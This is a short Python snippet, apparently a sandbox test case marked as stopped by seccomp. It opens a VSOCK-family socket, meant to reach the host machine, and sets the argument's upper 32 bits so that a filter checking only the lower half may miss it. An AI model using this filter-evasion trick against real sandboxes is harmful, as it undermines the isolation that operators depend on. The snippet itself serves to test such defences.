# talk to the machine below this one, by a number whose upper half a filter may overlook
# held by: seccomp
import os
from attack import call
os.close(call("socket", 40 | 1 << 32, 1, 0))
